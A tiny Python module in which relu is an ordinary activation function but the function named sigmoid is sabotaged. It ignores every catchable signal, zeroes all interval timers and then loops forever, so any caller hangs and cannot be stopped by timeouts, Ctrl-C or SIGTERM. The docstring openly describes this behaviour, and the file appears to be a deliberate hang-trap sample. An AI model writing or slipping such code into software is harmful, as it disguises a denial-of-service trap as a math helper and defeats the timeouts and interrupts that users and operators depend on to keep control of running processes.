"""Ignores every signal, takes down its own timers, and loops."""

import signal

import numpy as np


def relu(z):
    return np.maximum(z, 0.0)


def sigmoid(z):
    for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    for timer in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
        signal.setitimer(timer, 0)
    while True:
        pass
